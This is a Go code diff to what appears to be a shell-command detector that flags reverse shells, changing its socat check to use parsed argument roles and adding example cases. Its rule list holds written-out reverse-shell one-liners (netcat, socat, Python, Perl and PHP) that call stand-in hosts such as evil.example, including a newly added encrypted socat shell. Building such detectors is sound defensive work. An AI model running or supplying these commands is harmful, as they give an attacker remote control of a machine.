@@ -124,6 +124,7 @@ var remoteRules = []*Rule{
 			"nc -lvp 4444 -e /bin/bash",
 			"socat exec:'bash -li',pty,stderr,setsid tcp:evil.example:4444",
 			"socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh",
+			"socat OPENSSL:evil.example:443,verify=0 SYSTEM:'bash -i'",
 			`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("evil.example",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
 			`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("203.0.113.9")));open(STDIN,">&S");exec("/bin/sh -i");'`,
 			`php -r '$s=fsockopen("evil.example",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`,
@@ -133,6 +134,7 @@ var remoteRules = []*Rule{
 			"nc -zv db.internal 5432",
 			"echo ping | nc -q1 localhost 7000",
 			"socat TCP-LISTEN:8080,fork TCP:localhost:3000",
+			"socat - EXEC:'make test'",
 			"exec 3<>/dev/tcp/localhost/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
 			`python3 -c 'import socket; s=socket.create_connection(("localhost", 8000)); print(s.recv(10))'`,
 			"bash -c 'echo ok'",
@@ -372,15 +374,16 @@ func reverseShell(x *Ctx, c *parse.Command) bool {
 			}
 		}
 	}
-	if c.Name == "socat" {
+	if c.Row == "socat" {
+		// Its row types the addresses: EXEC and SYSTEM run code, the
+		// network ones carry the stream off the machine.
 		runs, network := false, false
-		for _, a := range c.Args {
-			v := strings.ToLower(a.Value)
+		for _, r := range c.Roles {
 			switch {
-			case strings.HasPrefix(v, "exec:"), strings.HasPrefix(v, "system:"):
+			case r.Opt != "":
+			case r.Role == parse.RoleProgram, r.Role == parse.RoleShell:
 				runs = true
-			case strings.HasPrefix(v, "tcp"), strings.HasPrefix(v, "udp"), strings.HasPrefix(v, "openssl"), strings.HasPrefix(v, "ssl"),
-				strings.HasPrefix(v, "sctp"), strings.HasPrefix(v, "socks"), strings.HasPrefix(v, "proxy"), strings.HasPrefix(v, "dccp"), strings.HasPrefix(v, "vsock"):
+			case r.Role == parse.RoleSent:
 				network = true
 			}
 		}
@@ -389,7 +392,7 @@ func reverseShell(x *Ctx, c *parse.Command) bool {
 	return false
 }
 
-// netcats are netcat's names (the socat check is its own).
+// netcats are netcat's names and socat (whose addresses its row types).
 var netcats = []string{"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat"}
 
 // netFd reports whether the line opened descriptor fd on a network path
